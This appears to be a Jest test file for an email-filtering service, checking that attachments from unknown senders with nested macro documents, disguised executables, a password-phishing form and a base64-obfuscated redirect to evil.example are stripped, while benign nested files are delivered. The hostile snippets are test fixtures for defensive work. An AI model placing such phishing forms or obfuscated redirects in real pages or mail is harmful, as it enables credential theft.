/** Files inside the files of a mail, through the whole service: what a stranger hides is taken out with the file it is in, what is ordinary stays. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, zstdCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Organisation } from '../src/domain/organisation.ts';
import type { Store } from '../src/domain/ports.ts';
import { parseMail } from '../src/parse/parse.ts';
import { readMessage } from '../src/read.ts';
import { createService } from '../src/service.ts';
import { openSqliteStore } from '../src/store/sqlite.ts';
import { DEFAULT_POLICY } from '../src/verdict/policy.ts';
import { strip } from '../src/verdict/strip.ts';
import { stripPlan } from '../src/verdict/stripPlan.ts';
import { latin1, zip, zipWith } from './traits/parts.ts';
import { fileOf, properties, property, tnef, wide } from './traits/tnef.ts';

const oletools = (name: string): Buffer => readFileSync(join(import.meta.dirname, 'fixtures', 'oletools', name));
const ACME: Organisation = { ownDomains: ['acme.example'], authservIds: ['mx.acme.example'] };
const ANA = 'ana@acme.example';
const NOW = Date.UTC(2026, 10, 24, 12);
const DAY_MS = 86_400_000;
let store: Store;
const service = () =>
  createService({
    store,
    read: (submission) => readMessage(submission, ACME),
    organisation: ACME,
    policy: DEFAULT_POLICY,
    learnDelayMs: 0,
    now: () => NOW,
  });
beforeAll(async () => {
  store = await openSqliteStore({ path: ':memory:' });
  for (let n = 0; n < 210; n += 1)
    await service().observe(requestOf('Bea <bea@partner.example>', `m${n}`, [], NOW - (30 - n / 10) * DAY_MS));
});
afterAll(() => store.close());

type MailFile = readonly [name: string, content: Buffer];

function requestOf(from: string, id: string, files: readonly MailFile[], receivedAt = NOW) {
  const domain = /@([\w.]+)/.exec(from)?.[1];
  const parts = files.map(([name, content]) =>
    [
      `--q\r\nContent-Type: application/octet-stream; name="${name}"`,
      `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64\r\n',
      content.toString('base64').replace(/.{76}/g, '$&\r\n'),
    ].join('\r\n'),
  );
  const head = [
    `Authentication-Results: mx.acme.example; spf=pass smtp.mailfrom=${domain}; dkim=pass header.d=${domain}; dmarc=pass header.from=${domain}`,
    `From: ${from}`,
    `To: ${ANA}`,
    'Subject: Documents',
    `Message-ID: <${id}@x.example>`,
    'Date: Tue, 24 Nov 2026 12:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=q',
    '',
    '--q\r\nContent-Type: text/plain\r\n\r\nHere are the documents we talked about.',
  ];
  const raw = Buffer.from([...head, ...parts, '--q--', ''].join('\r\n'));
  return {
    tenant: 'acme',
    raw,
    mailboxes: [ANA],
    receivedAt,
    learn: receivedAt === NOW ? ('never' as const) : ('auto' as const),
  };
}

const word = (parts: Readonly<Record<string, Buffer | string>>): Buffer =>
  zipWith({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...parts });
const XLSM = oletools('excel4_sample_macro.xlsm');
const pdfWith = (name: string, content: Buffer): Buffer => {
  const packed = deflateSync(content);
  return Buffer.concat([
    latin1(`%PDF-1.7\n4 0 obj\n<< /Type /Filespec /F (${name}) /EF << /F 7 0 R >> >>\nendobj\n`),
    latin1(`7 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    latin1('\nendstream\nendobj\n'),
  ]);
};
const manual = (more: Readonly<Record<string, string>> = {}): Buffer => {
  const page = (n: number): string =>
    `<html><head><script src="script.js"></script><script>try { if (location.href.indexOf('is-external=true') == -1) { parent.document.title="Class ${n}"; } } catch(err) { }</script></head><body onload="loadScripts()"><a href="index.html">Index</a><p>${'What it does. '.repeat(20)}</p></body></html>`;
  const pages = Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`api/class${n}.html`, page(n)]));
  return zipWith({
    ...pages,
    'api/script.js': 'function loadScripts() {}',
    'api/search.js': 'var index = [];',
    ...more,
  });
};

describe('from a stranger, taken out with the file that holds it', () => {
  test.each<MailFile>([
    ['winmail.dat', tnef(fileOf('invoice.pdf.js', 'x'))],
    ['page.dat', tnef(fileOf('a.html', '<form action="https://evil.example/"><input type=password></form>'))],
    ['table.docx', word({ 'word/embeddings/a.xlsm': XLSM })],
    ['text.docx', word({ 'word/afchunk.docx': word({ 'word/embeddings/a.xlsm': XLSM }) })],
    [
      'order.xml',
      latin1(
        `<?xml version="1.0"?><pkg:package><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>${oletools('excel4_sample_macro.xls').toString('base64')}</pkg:binaryData></pkg:part></pkg:package>`,
      ),
    ],
    ['order.pdf', pdfWith('a.xlsm', XLSM)],
    ['invoice.exe.zst', zstdCompressSync(latin1('x'))],
    [
      'manual.zip',
      manual({ 'api/login.html': '<script>location.replace(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv"))</script>' }),
    ],
  ])('%s', async (name, content) => {
    const request = requestOf('Carla <carla@stranger.example>', name, [[name, content]]);
    const verdict = await service().score(request);
    expect(verdict.action).not.toBe('deliver');
    const submission = { ...request, direction: 'inbound' as const, envelope: { rcptTo: [ANA] } };
    const { message } = await readMessage(submission, ACME);
    const stripped = await strip(request.raw, stripPlan(message, verdict));
    if (!stripped.isRewritten) throw new Error(`not rewritten: ${stripped.detail}`);
    expect(stripped.changes).toContainEqual(expect.objectContaining({ kind: 'file', name }));
    const { parts } = await parseMail(stripped.bytes);
    expect(parts.every((part) => !part.content.equals(content))).toBe(true);
  });
});

describe('from a stranger, delivered', () => {
  test.each<MailFile>([
    [
      'winmail.dat',
      tnef(
        properties(1, property(0x1000, 0x1f, wide('See you on Monday.'))),
        fileOf('minutes.docx', zip(['[Content_Types].xml', 'word/document.xml'])),
      ),
    ],
    ['report.docx', word({ 'word/embeddings/table.xlsx': oletools('embedded-simple-2007.xlsx') })],
    ['e-invoice.pdf', pdfWith('factur-x.xml', latin1('<?xml version="1.0"?><rsm:CrossIndustryInvoice/>'))],
    ['notes.txt.zst', zstdCompressSync(latin1('hello'))],
    ['manual.zip', manual()],
  ])('%s', async (name, content) => {
    const { action } = await service().score(
      requestOf('Carla <carla@stranger.example>', `d-${name}`, [[name, content]]),
    );
    expect(action).toBe('deliver');
  });
});
